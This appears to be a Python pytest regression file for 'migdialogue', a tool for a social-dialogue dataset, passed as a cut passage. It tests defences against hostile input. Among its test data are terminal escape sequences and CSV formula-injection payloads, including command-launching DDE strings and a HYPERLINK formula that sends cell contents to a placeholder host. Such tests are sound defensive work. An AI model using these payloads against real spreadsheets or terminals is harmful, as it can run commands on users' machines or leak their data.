"""Regressions: the defects that hostile batteries found (issues 13 and 26), each through the
installed ``migdialogue`` as a real process on the real bundled data and small files of the user's
own (a few, in-process, through ``cli``). Each test's docstring says what it guards.
``MIGDIALOGUE_TEST_EXE`` runs them against another installation, which is how each was seen to
fail before its fix. Grouped by issue and defect number, as the issues list them.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

import migdialogue
from migdialogue import outfile

from . import tools
from .test_validate import GOOD_EXAMPLE

EXE = os.environ.get("MIGDIALOGUE_TEST_EXE") or str(Path(sys.executable).with_name("migdialogue"))
JORDAN_CASE = "jordan-garment-collective-agreement-2022"
HUGE = "9" * 23  # beyond SQLite's 64-bit INTEGER


def run(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    base.update({"NO_COLOR": "1", "COLUMNS": "100"}, **(env or {}))
    return subprocess.run([EXE, *args], capture_output=True, text=True, env=base, cwd=cwd, timeout=120)


def out_json(*args: str, **kw: Any) -> Any:
    result = run(*args, **kw)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def one_clean_error(result: subprocess.CompletedProcess[str], code: int) -> str:
    assert result.returncode == code, (result.returncode, result.stderr)
    assert result.stderr.startswith("migdialogue: error: ") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    return result.stderr


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    path = tmp_path / "mine.yaml"
    path.write_text(GOOD_EXAMPLE, encoding="utf-8")
    return path


# -- issue 13: 1. integers from the command line reach SQLite bounded ----------------------------------


def test_a_score_that_is_not_a_number_is_refused() -> None:
    """--min-score nan is one clean usage error (exit 2): no NaN reaches SQLite."""
    assert "--min-score nan is not a number" in one_clean_error(run("search", "union", "--min-score", "nan"), 2)


def test_a_huge_limit_means_all() -> None:
    """A --limit beyond SQLite's 64-bit integers means all (search, related), never an overflow."""
    everything = out_json("search", "union", "--limit", "0", "--json")
    assert len(everything) > 10 and out_json("search", "union", "--limit", HUGE, "--json") == everything
    related = out_json("related", JORDAN_CASE, "--limit", HUGE, "--json")
    assert related == out_json("related", JORDAN_CASE, "--limit", "1000", "--json") and related


@pytest.mark.parametrize(
    "args",
    [
        ["--since", "10000"],  # "10000" < "2019" as text: every dated example was kept
        ["--since", HUGE],
        ["--year", HUGE],
        ["--until", "-" + HUGE],
        ["--since", "2020", "--until", "-1"],
    ],
)
def test_years_out_of_range_select_nothing(args: list[str]) -> None:
    """Years beyond 0-9999 or 64 bits select nothing or are a usage error, never an internal
    error (--since 10000, compared as text, once kept every dated example)."""
    result = run("list", *args, "--json")
    assert result.returncode in (0, 2), result.stderr
    assert "internal error" not in result.stderr
    if result.returncode == 0:
        assert json.loads(result.stdout) == []


def test_every_year_range_agrees_with_the_years_of_the_examples() -> None:
    """--since N keeps exactly the examples with a year on or after N, for years of any size."""
    everything = out_json("list", "--json")
    for since in (0, 2019, 2100, 9999, 10000, 123456):
        kept = {e["id"] for e in out_json("list", "--since", str(since), "--json")}
        assert kept == {e["id"] for e in everything if any(y >= since for y in e["years"])}, since


@pytest.mark.parametrize("ident", ["²", "9" * 5000])
def test_odd_digits_are_not_a_footnote_number(ident: str) -> None:
    """A superscript digit or 5,000 nines is no footnote number (one clean error); a decimal
    digit of another script is its number."""
    one_clean_error(run("show", ident), 1)
    assert out_json("show", "٣", "--json") == out_json("show", "3", "--json")  # a decimal digit in any script


def test_numbers_a_dataset_cannot_store_are_refused(tmp_path: Path) -> None:
    """A user's number too large for SQLite, or not finite, is a data error (exit 3) that names
    it, in validate and in any command."""
    big = tmp_path / "big.yaml"
    big.write_text(GOOD_EXAMPLE.replace("years: [2021]", "years: [" + "9" * 5000 + "]"), encoding="utf-8")
    result = run("validate", str(big))
    assert result.returncode == 3 and "number too large to store" in result.stdout, result.stderr
    number = tmp_path / "number.yaml"
    number.write_text(
        GOOD_EXAMPLE + "instruments:\n  - id: my-ins\n    kind: convention\n    number: " + HUGE + "\n"
        "    title: T\n    summary: S\n    sources: [44]\n",
        encoding="utf-8",
    )
    result = run("export", "--format", "sqlite", "--output", str(tmp_path / "x.db"), "--data", str(number))
    assert result.returncode == 3 and "beyond the largest whole number" in result.stderr, result.stderr
    infinite = tmp_path / "inf.yaml"
    infinite.write_text(
        GOOD_EXAMPLE + "statistics:\n  - id: my-stat\n    label: L\n    value: 1.0e+400\n    unit: people\n"
        "    sources: [44]\n",
        encoding="utf-8",
    )
    result = run("stats", "--json", "--data", str(infinite))
    assert result.returncode == 3 and "must be a finite number" in result.stderr, result.stdout


# -- issue 13: 2. user text reaches the terminal shown, never acted on ---------------------------------

EVIL = "\x1b]0;pwned\x07\x1b[31mred"


def _evil_file(tmp_path: Path) -> Path:
    path = tmp_path / "evil.yaml"
    path.write_text(GOOD_EXAMPLE.replace("id: my-case", 'id: "\\e]0;pwned\\a\\e[31mred"'), encoding="utf-8")
    return path


def _no_control(text: str) -> None:
    assert not any(ord(c) < 32 and c != "\n" or 0x7F <= ord(c) < 0xA0 for c in text), repr(text)


def test_validate_shows_escape_sequences_in_ids(tmp_path: Path) -> None:
    """Terminal escape sequences in a user's ids are shown escaped by validate, never sent to
    the terminal."""
    result = run("validate", str(_evil_file(tmp_path)))
    assert result.returncode == 3
    _no_control(result.stdout + result.stderr)
    assert "record \\x1b]0;pwned\\x07\\x1b[31mred: id must be lower-case kebab-case" in result.stdout


@pytest.mark.parametrize("command", [["list"], ["show", "my-case"], ["search", "case"], ["brief", "Jordan"]])
def test_every_command_with_data_shows_them_in_its_errors(tmp_path: Path, command: list[str]) -> None:
    """Every command's data errors show a user's escape sequences escaped."""
    result = run(*command, "--data", str(_evil_file(tmp_path)))
    assert result.returncode == 3
    _no_control(result.stderr)
    assert "\\x1b]0;pwned" in result.stderr


def test_notices_and_output_paths_are_shown_too(tmp_path: Path, mine: Path) -> None:
    """Notices and output paths show escape sequences and bidirectional overrides escaped."""
    target = tmp_path / f"out{EVIL}.json"
    result = run("export", "--output", str(target))
    assert result.returncode == 0 and target.exists()
    _no_control(result.stderr)
    assert result.stderr.endswith("red.json\n") and "\\x1b[31m" in result.stderr
    replacing = tmp_path / "replacing.yaml"
    replacing.write_text(GOOD_EXAMPLE.replace("id: my-case", f"id: {JORDAN_CASE}"), encoding="utf-8")
    result = run("list", "--json", "--data", str(replacing), "--sector", "nowhere\u202e")
    _no_control(result.stderr)
    assert "\u202e" not in result.stderr and "\\u202e" in result.stderr


def test_a_briefing_and_a_citation_as_text_show_them(tmp_path: Path) -> None:
    """A briefing note and citations (text, BibTeX) carry no control character from a user's
    titles or metadata."""
    meta = tmp_path / "meta.yaml"
    meta.write_text(
        GOOD_EXAMPLE.replace('title: "A case"', 'title: "A \\e[2J case"')
        + 'meta:\n  title: "Brief \\e]0;pwned\\a"\n  publisher: ILO\n  date: "2025-02"\n  doi: 10.54394/GMYI2601\n'
        '  data_version: "1"\n  definition:\n    text: "Dialogue."\n    by: ILO\n',
        encoding="utf-8",
    )
    for args in (["brief", "Jordan", "--format", "text"], ["cite", "jordan"], ["cite", "jordan", "--style", "bibtex"]):
        result = run(*args, "--data", str(meta))
        assert result.returncode == 0, result.stderr
        _no_control(result.stdout)


# -- issue 13: 3. unreadable .yaml files of a folder are never skipped without a word ------------------


def test_symlink_loops_in_a_folder_are_reported(tmp_path: Path, mine: Path) -> None:
    """A symbolic-link loop among a folder's .yaml files is reported (one line, exit 2), never
    skipped without a word."""
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "mine.yaml").write_text(GOOD_EXAMPLE, encoding="utf-8")
    os.symlink("b.yaml", folder / "a.yaml")
    os.symlink("a.yaml", folder / "b.yaml")
    for args in (["validate", str(folder)], ["list", "--data", str(folder)]):
        error = one_clean_error(run(*args), 2)
        assert f"{folder}/a.yaml: cannot read: Too many levels of symbolic links (and 1 more)" in error
    os.unlink(folder / "mine.yaml")
    error = one_clean_error(run("validate", str(folder)), 2)
    assert "has no .yaml" not in error and "a.yaml: cannot read" in error


def test_a_dangling_link_or_a_fifo_in_a_folder_is_reported(tmp_path: Path) -> None:
    """A dangling link or a FIFO among a folder's .yaml files is reported, never skipped or read
    (a FIFO would block)."""
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "mine.yaml").write_text(GOOD_EXAMPLE, encoding="utf-8")
    os.symlink("gone.yaml", folder / "dangling.yaml")
    assert "dangling.yaml: cannot read: No such file or directory" in one_clean_error(run("validate", str(folder)), 2)
    os.unlink(folder / "dangling.yaml")
    os.mkfifo(folder / "pipe.yaml")
    assert "pipe.yaml: not a regular file" in one_clean_error(run("validate", str(folder)), 2)


# -- issue 13: 4 and 5. one writer for every output path -----------------------------------------------


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_a_folder_as_output_is_a_clear_error_with_advice_that_works(tmp_path: Path, force: list[str]) -> None:
    """--output naming a folder is one clear error that does not advise --force (which would
    not help), and nothing is written."""
    error = one_clean_error(run("export", "--output", str(tmp_path), *force), 2)
    assert "--force" not in error and "is a folder; give the path of a file" in error
    assert list(tmp_path.iterdir()) == []


def test_a_fifo_is_written_into_and_stays_a_fifo(tmp_path: Path) -> None:
    """--output naming a FIFO writes into it; the pipe is never replaced by a file."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run("export", "--output", str(fifo), "--force")
    reader.join(timeout=30)
    if reader.is_alive():  # nothing was written into the pipe: unblock the reader
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(timeout=5)
    assert result.returncode == 0, result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode), "the named pipe was replaced"
    assert json.loads(received[0])["meta"]["doi"] == "10.54394/GMYI2601"


def _a_full_device(tmp_path: Path) -> Path:
    """/dev/full itself, or (as root, who could replace it) a copy of its device node."""
    if os.geteuid() != 0:
        return Path("/dev/full")
    node = tmp_path / "full"
    os.mknod(node, stat.S_IFCHR | 0o666, os.stat("/dev/full").st_rdev)
    return node


@tools.LINUX_ONLY
@pytest.mark.parametrize("fmt", ["json", "sqlite"])
def test_a_full_device_is_written_into_and_never_replaced(tmp_path: Path, fmt: str) -> None:
    """A full device is an error (exit 4, no space left on device), and the device node is never
    replaced by a regular file."""
    device = _a_full_device(tmp_path)
    result = run("export", "--format", fmt, "--output", str(device), "--force")
    assert one_clean_error(result, 4) == f"migdialogue: error: cannot write {device}: No space left on device\n"
    assert stat.S_ISCHR(os.lstat(device).st_mode), "the device node was replaced by a regular file"


def test_dev_stdout_and_dev_null_are_written_without_force(tmp_path: Path) -> None:
    """/dev/stdout and /dev/null are written into without --force."""
    result = run("export", "--format", "jsonl", "--output", "/dev/stdout")
    assert result.returncode == 0 and result.stdout.startswith('{"collection": "meta"'), result.stderr
    assert run("export", "--format", "sqlite", "--output", "/dev/null").returncode == 0


def test_regular_files_links_and_permissions(tmp_path: Path) -> None:
    """An existing file needs --force; a link is written through, the file keeps its permissions,
    no temporary file is left; a dangling link is an error."""
    target = tmp_path / "x.json"
    assert run("export", "--output", str(target)).returncode == 0
    assert "exists; use --force" in one_clean_error(run("export", "--output", str(target)), 2)
    target.chmod(0o640)
    link = tmp_path / "link.json"
    link.symlink_to("x.json")
    assert run("export", "--format", "jsonl", "--output", str(link), "--force").returncode == 0
    assert link.is_symlink() and target.read_text(encoding="utf-8").startswith('{"collection"')
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.json", "x.json"]  # no temporary file left
    (tmp_path / "dangling").symlink_to("nowhere")
    assert "symbolic link to a missing file" in one_clean_error(
        run("export", "--output", str(tmp_path / "dangling")), 2
    )


# -- issue 13: 6. XDG_CACHE_HOME -----------------------------------------------------------------------


def test_a_relative_xdg_cache_home_is_ignored(tmp_path: Path, mine: Path) -> None:
    """A relative XDG_CACHE_HOME is ignored (the XDG rule): the cache goes to ~/.cache, never
    into the working folder."""
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    home.mkdir()
    env = {"XDG_CACHE_HOME": "rel-cache", "HOME": str(home)}
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env, cwd=work)["record"]["id"] == "my-case"
    assert list(work.iterdir()) == []
    assert len(list((home / ".cache" / "migdialogue").glob("dataset-*.db"))) == 1


def test_with_no_absolute_place_nothing_is_cached(tmp_path: Path, mine: Path) -> None:
    """With neither XDG_CACHE_HOME nor HOME absolute, nothing is cached and nothing is written
    into the working folder; the answer is still right."""
    work = tmp_path / "work"
    work.mkdir()
    env = {"XDG_CACHE_HOME": "rel-cache", "HOME": "relative-home"}
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env, cwd=work)["record"]["id"] == "my-case"
    assert list(work.iterdir()) == []


# -- issue 13: 7. a cache entry damaged inside is rebuilt ----------------------------------------------

QUERIES = (["show", "my-case", "--json"], ["search", "collective bargaining", "--json"], ["list", "--json"])


@pytest.fixture
def cache_home(tmp_path: Path) -> Path:
    return tmp_path / "cache"


def _answers(mine: Path, cache_home: Path) -> list[Any]:
    return [out_json(*q, "--data", str(mine), env={"XDG_CACHE_HOME": str(cache_home)}) for q in QUERIES]


def _entry(cache_home: Path) -> Path:
    (entry,) = (cache_home / "migdialogue").glob("dataset-*.db")
    return entry


def _intact(path: Path) -> bool:
    con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return con.execute("PRAGMA quick_check").fetchall() == [("ok",)]
    except sqlite3.DatabaseError:
        return False
    finally:
        con.close()


def _page_size(path: Path) -> int:
    """The database's page size, from its header (bytes 16-17; 1 means 65536)."""
    size = int.from_bytes(path.read_bytes()[16:18], "big")
    return 65536 if size == 1 else size


def _overwrite_page(path: Path, page: int) -> None:
    """Fill one page of a database file (numbered from 1) with 0xff bytes."""
    size = _page_size(path)
    data = bytearray(path.read_bytes())
    data[(page - 1) * size : page * size] = b"\xff" * size
    path.write_bytes(bytes(data))


def test_pages_overwritten_anywhere_are_detected_and_rebuilt(mine: Path, cache_home: Path) -> None:
    """A cache entry with pages overwritten anywhere gives the same answers: the damage is
    detected and the entry rebuilt."""
    expected = _answers(mine, cache_home)
    entry = _entry(cache_home)
    pristine = entry.read_bytes()
    size = _page_size(entry)
    pages = len(pristine) // size
    assert pages > 20
    rng = random.Random(13)
    rebuilt = 0
    for page in (1, 2, 3, pages // 4, pages // 2, 3 * pages // 4, pages - 2, pages - 1):
        for filler in (bytes(rng.randrange(256) for _ in range(size)), b"\x00" * size):
            damaged = bytearray(pristine)
            damaged[page * size : (page + 1) * size] = filler
            entry.write_bytes(bytes(damaged))
            harmful = not _intact(entry)  # a free page may be overwritten harmlessly
            assert _answers(mine, cache_home) == expected, page
            assert _intact(_entry(cache_home)), page
            if harmful:
                assert _entry(cache_home).read_bytes() != bytes(damaged), f"page {page}: the entry was not rebuilt"
                rebuilt += 1
    assert rebuilt >= 12


def test_damage_found_while_reading_a_large_entry_is_rebuilt(
    mine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Entries over cache.CHECK_BYTES are not read whole on opening: damage is caught on use."""
    from migdialogue import cache

    from .conftest import cli

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "big-cache"))
    monkeypatch.setattr(cache, "CHECK_BYTES", 0)
    first = cli("list", "--json", "--data", str(mine))
    assert first.code == 0
    entry = _entry(tmp_path / "big-cache")
    con = sqlite3.connect(entry)
    root = con.execute("SELECT rootpage FROM sqlite_master WHERE name = 'examples'").fetchone()[0]
    con.close()
    _overwrite_page(entry, root)
    again = cli("list", "--json", "--data", str(mine))
    assert again.code == 0, again.err
    assert again.json() == first.json()
    assert "the cached copy of your dataset was damaged; rebuilding it" in again.err


def test_damage_met_part_way_through_a_streamed_answer_ends_it_with_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A large JSON answer is written as it is read: damage met after part of it is out removes the
    entry and ends the answer with exit 4 and one line (what was written is a prefix of the whole);
    the next run builds the entry again and answers in full."""
    from migdialogue import cache

    from .conftest import cli

    body = GOOD_EXAMPLE.split("examples:\n", 1)[1]
    records = [
        body.replace("my-case", f"case-{i:03d}").replace("Something the team coded.", "x" * 1500) for i in range(300)
    ]
    mine = tmp_path / "many.yaml"
    mine.write_text("examples:\n" + "".join(records), encoding="utf-8")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "big-cache"))
    monkeypatch.setattr(cache, "CHECK_BYTES", 0)
    first = cli("list", "--json", "--data", str(mine))
    assert first.code == 0 and len(first.out) > 2 * 262_144
    entry = _entry(tmp_path / "big-cache")
    con = sqlite3.connect(entry)
    (last,) = con.execute("SELECT max(pageno) FROM dbstat WHERE name = 'examples' AND pagetype = 'leaf'").fetchone()
    con.close()
    _overwrite_page(entry, last)
    again = cli("list", "--json", "--data", str(mine))
    assert again.code == 4 and again.err.count("\n") == 1 and "run the command again" in again.err
    assert 0 < len(again.out) < len(first.out) and first.out.startswith(again.out)
    assert not entry.exists()
    third = cli("list", "--json", "--data", str(mine))
    assert third.code == 0 and third.out == first.out


# -- issue 13: 8. one key function: bundled countries are not the user's -------------------------------


def test_a_bundled_country_is_cited_with_user_data(mine: Path) -> None:
    """With a user's dataset, the brief's countries are still the brief's and are cited; a
    user's own record is not cited as the brief's."""
    result = run("cite", "jordan", "--data", str(mine))
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[1] == "Cited for: record 'jordan' (Jordan)."
    assert out_json("show", "my-case", "--json", "--data", str(mine))["origin"] == "user"
    for country in ("viet-nam", "philippines", "united-states-of-america"):  # a few more, names with spaces too
        assert run("cite", country, "--data", str(mine)).returncode == 0, country
    assert "comes from your own dataset" in one_clean_error(run("cite", "my-case", "--data", str(mine)), 2)


def test_a_user_country_is_the_users(tmp_path: Path) -> None:
    """A country a user's dataset adds is the user's: shown, and not cited as the brief's."""
    path = tmp_path / "narnia.yaml"
    path.write_text(
        GOOD_EXAMPLE.replace("[Jordan]", "[Narnia]")
        + "countries:\n  - name: Narnia\n    iso2: QN\n    iso3: NRN\n    region: africa\n",
        encoding="utf-8",
    )
    assert out_json("country", "narnia", "--json", "--data", str(path))["country"]["id"] == "narnia"
    assert "comes from your own dataset" in one_clean_error(run("cite", "narnia", "--data", str(path)), 2)


# -- issue 13: 9. a partial name matching several values selects them all ------------------------------


def _ids(*args: str) -> set[str]:
    return {e["id"] for e in out_json("list", *args, "--json")}


def test_a_partial_sector_selects_every_sector_it_names() -> None:
    """--sector care selects every sector whose name it matches (aged care, care work), not the
    first one."""
    care = _ids("--sector", "care")
    assert care and care == _ids("--sector", "aged care") | _ids("--sector", "care work")


@pytest.mark.parametrize(
    ("option", "typed", "values"),
    [
        ("--type", "tri", ["tripartite", "multi-stakeholder"]),
        ("--challenge", "cross", ["cross-border-cooperation"]),
        (
            "--challenge",
            "c",
            ["gender", "climate-change", "conflict", "freedom-of-association", "cross-border-cooperation"],
        ),
        ("--sector", "work", ["care work", "domestic work", "temporary agency work"]),
    ],
)
def test_sibling_lookups_follow_the_same_rule(option: str, typed: str, values: list[str]) -> None:
    """--type, --challenge and --sector each select every value a partial name matches."""
    union: set[str] = set()
    for value in values:
        union |= _ids(option, value)
    assert _ids(option, typed) == union


def test_one_record_by_an_ambiguous_name_lists_the_choices() -> None:
    """One record named ambiguously lists the choices; brief on a partial name covers every
    value it matches and says so."""
    error = one_clean_error(run("challenges", "c"), 2)
    assert "challenge 'c' matches 5: gender, climate-change, conflict" in error and "no challenge" not in error
    assert "no sector 'narnia'" in one_clean_error(run("list", "--sector", "narnia"), 1)
    note = run("brief", "care")  # a topic: the note covers every sector it names, and the terminal says so
    assert note.returncode == 0 and "# Briefing note: aged care or care work (sectors)" in note.stdout
    assert "'care' matches the sectors aged care and care work: the note covers them all" in note.stderr


def test_sibling_damaged_bundled_data_is_one_clear_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The shipped store cannot be rebuilt: damage met while reading it says so, with no traceback."""
    from migdialogue import dataset

    from .conftest import cli

    copy = tmp_path / "compiled.db"
    copy.write_bytes(Path(dataset.compiled_path()).read_bytes())
    con = sqlite3.connect(copy)
    root = con.execute("SELECT rootpage FROM sqlite_master WHERE name = 'examples'").fetchone()[0]
    con.close()
    _overwrite_page(copy, root)
    monkeypatch.setattr(dataset, "compiled_path", lambda: str(copy))
    run = cli("list", "--json")
    assert run.code == 3, run.err
    assert run.err.startswith("migdialogue: error: the bundled data is damaged (") and run.err.count("\n") == 1
    assert "reinstall migdialogue" in run.err


GiB = 1024**3
ODD = "C#1?x=%41 100%"  # a fragment, a query and an escape, were the path read as a URI


def _entries(cache: Path) -> list[Path]:
    return sorted(p for p in cache.glob("dataset-*.db") if p.is_file() and not p.is_symlink())


# -- issue 26: 1. a path with '#', '?' or '%' in an SQLite URI -----------------------------------------


def test_installed_under_a_folder_named_with_uri_characters(tmp_path: Path) -> None:
    """The package installed under ``C#1?x=%41 100%/`` (a venv under ~/C#/): the shipped store opens."""
    site = tmp_path / ODD / "site-packages"
    shutil.copytree(
        Path(migdialogue.__file__).parent, site / "migdialogue", ignore=shutil.ignore_patterns("__pycache__")
    )
    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    env["PYTHONPATH"] = str(site)
    probe = "import migdialogue, sys; sys.stdout.write(migdialogue.__file__)"
    where = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, env=env, timeout=60)
    assert where.stdout.startswith(str(site)), where.stderr
    result = subprocess.run(
        [sys.executable, "-m", "migdialogue", "country", "Jordan", "--json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["country"]["name"] == "Jordan"


def test_a_cache_folder_named_with_uri_characters_is_read_not_rebuilt(tmp_path: Path, mine: Path) -> None:
    """A cache folder whose name holds '#', '?' or '%' is opened as a path, not read as an SQLite
    URI: its entry is read again, not rebuilt at every run."""
    cache = tmp_path / ODD
    env = {"MIGDIALOGUE_CACHE_DIR": str(cache)}
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    (entry,) = _entries(cache)
    built = entry.stat().st_ino
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    assert _entries(cache) == [entry] and entry.stat().st_ino == built, "the entry was built again"


# -- issue 26: 2. a cache entry that is a symbolic link ------------------------------------------------


def test_a_link_named_as_an_entry_is_replaced_never_written_through(tmp_path: Path, mine: Path) -> None:
    """A symbolic link planted as a cache entry is replaced by a real entry; the file it points to
    is never written."""
    cache = tmp_path / "cache"
    env = {"MIGDIALOGUE_CACHE_DIR": str(cache)}
    out_json("show", "my-case", "--json", "--data", str(mine), env=env)
    (entry,) = _entries(cache)
    precious = tmp_path / "thesis.tex"
    precious.write_text("three years of work\n", encoding="utf-8")
    entry.unlink()
    entry.symlink_to(precious)
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    assert precious.read_text(encoding="utf-8") == "three years of work\n"
    assert not entry.is_symlink() and _entries(cache) == [entry]


def test_a_link_to_another_entry_is_not_read_through(tmp_path: Path, mine: Path) -> None:
    """A link to a valid entry of another dataset: never read as this one's, never touched."""
    cache = tmp_path / "cache"
    env = {"MIGDIALOGUE_CACHE_DIR": str(cache)}
    other = tmp_path / "other.yaml"
    other.write_text(GOOD_EXAMPLE.replace("my-case", "other-case"), encoding="utf-8")
    out_json("show", "other-case", "--json", "--data", str(other), env=env)
    (elsewhere,) = _entries(cache)
    kept = tmp_path / "kept.db"
    elsewhere.rename(kept)
    before = kept.stat()
    out_json("show", "my-case", "--json", "--data", str(mine), env=env)
    (entry,) = _entries(cache)
    entry.unlink()
    entry.symlink_to(kept)
    assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
    after = kept.stat()
    assert (after.st_mtime_ns, after.st_size) == (before.st_mtime_ns, before.st_size)
    assert not entry.is_symlink()


# -- issue 26: 5. temporary files of runs that died ----------------------------------------------------


def _many_examples(path: Path, count: int) -> Path:
    """A JSON Lines dataset of ``count`` examples, large enough that its first run takes a while."""
    with open(path, "w", encoding="utf-8") as out:
        for i in range(count):
            record = {
                "collection": "examples",
                "id": f"case-{i}",
                "title": f"Generated case {i} on recruitment fees and domestic work",
                "summary": "Workers, employers and the ministry agreed on fair recruitment. " * 3,
                "countries": ["Jordan"],
                "region": ["arab-states"],
                "level": "national",
                "dialogue_type": "tripartite",
                "theme": "policy-formulation",
                "years": [2000 + i % 25],
                "sectors": [],
                "actors": [],
                "challenges": ["gender"],
                "sources": [44],
            }
            out.write(json.dumps(record) + "\n")
    return path


def _temporaries(cache: Path) -> list[Path]:
    return sorted(p for p in cache.iterdir() if outfile.is_temporary(p.name))


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait(timeout=60)
    return child.pid


@tools.LINUX_ONLY  # SIGKILL mid-build and process numbers as this test reads them
def test_a_first_run_killed_leaves_a_temporary_file_the_next_build_removes(tmp_path: Path, mine: Path) -> None:
    """A first run killed while it builds leaves a temporary file that the next build removes;
    never a live process's, another machine's or a recent unnamed one."""
    cache = tmp_path / "cache"
    env = {k: v for k, v in os.environ.items() if k not in ("MIGDIALOGUE_DATA", "MIGDIALOGUE_DEBUG")}
    env["MIGDIALOGUE_CACHE_DIR"] = str(cache)
    for size in (4000, 16000, 64000):  # a build that ends before it is seen is tried again, larger
        big = _many_examples(tmp_path / f"big-{size}.jsonl", size)
        killed = subprocess.Popen([EXE, "list", "--json", "--data", str(big)], stdout=subprocess.DEVNULL, env=env)
        deadline = time.monotonic() + 60
        while not (cache.is_dir() and _temporaries(cache)) and killed.poll() is None and time.monotonic() < deadline:
            time.sleep(0.005)
        killed.send_signal(signal.SIGKILL)
        killed.wait(timeout=60)
        if killed.returncode == -signal.SIGKILL and _temporaries(cache):
            break
        shutil.rmtree(cache, ignore_errors=True)
    (left,) = _temporaries(cache)
    assert f"-{killed.pid}-" in left.name and _entries(cache) == []

    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        live = cache / f".migdialogue-{outfile.host_id()}-{sleeper.pid}-abcdefgh.tmp"
        elsewhere = cache / f".migdialogue-0123abcd-{_dead_pid()}-abcdefgh.tmp"  # another machine's
        fresh_unnamed, old_unnamed = cache / ".migdialogue-freshabc.tmp", cache / ".migdialogue-oldabcde.tmp"
        for path in (live, elsewhere, fresh_unnamed, old_unnamed):
            path.write_bytes(b"x" * 100)
        a_day_ago = time.time() - 86_400 - 60
        os.utime(old_unnamed, (a_day_ago, a_day_ago))
        assert out_json("show", "my-case", "--json", "--data", str(mine), env=env)["record"]["id"] == "my-case"
        assert _temporaries(cache) == sorted([live, elsewhere, fresh_unnamed])
    finally:
        sleeper.kill()
        sleeper.wait(timeout=60)


def test_every_file_of_the_cache_counts_in_its_size_bound(tmp_path: Path, mine: Path) -> None:
    """A 5 GiB entry another live process is building and a 4 GiB entry: with the new one, over the
    8 GiB bound, so the older entry goes (the one being built is never removed)."""
    cache = tmp_path / "cache"
    cache.mkdir()
    older = cache / f"dataset-{'b' * 16}-{'2' * 32}.db"
    building = cache / f".migdialogue-{outfile.host_id()}-{os.getpid()}-abcdefgh.tmp"
    for path, size in ((older, 4 * GiB), (building, 5 * GiB)):
        with open(path, "wb") as f:
            f.truncate(size)  # sparse: no disk used
    an_hour_ago = time.time() - 3600
    os.utime(older, (an_hour_ago, an_hour_ago))
    out_json("show", "my-case", "--json", "--data", str(mine), env={"MIGDIALOGUE_CACHE_DIR": str(cache)})
    assert not older.exists() and building.stat().st_size == 5 * GiB
    assert len(_entries(cache)) == 1


# -- issue 26: 3. formula injection in CSV (CWE-1236); 9. control characters round-trip ----------------

FORMULAS = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "summary": "+cmd|' /C calc'!A0",
    "sectors": ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB=1", "'=quoted already", "''-twice"],
    "actors": ["\r=CR first", "-", "plain", "-3.5"],
    "notes": ["=1+1", "ends with =", "\\x07 is text, not a bell", "a bell \x07, an escape \x1b[31mred\x1b[0m"],
    "quote": {"text": "=cmd", "by": "@someone"},
}


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_record(**fields: object) -> dict[str, object]:
    record: dict[str, object] = {
        "id": "my-case",
        "title": "A case",
        "summary": "Something the team coded.",
        "countries": ["Jordan"],
        "region": ["arab-states"],
        "level": "national",
        "dialogue_type": "tripartite",
        "theme": "policy-formulation",
        "years": [2021],
        "sectors": [],
        "actors": [],
        "challenges": ["gender"],
        "sources": [44],
    }
    record.update(fields)
    return record


def _jsonl(path: Path, *records: dict[str, object]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def _cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--format", "csv"],  # the export writer
        ["list", "--format", "csv"],  # a listing
        ["show", "my-case", "--format", "csv"],  # a document
        ["search", "hyperlink click", "--format", "csv"],
    ],
)
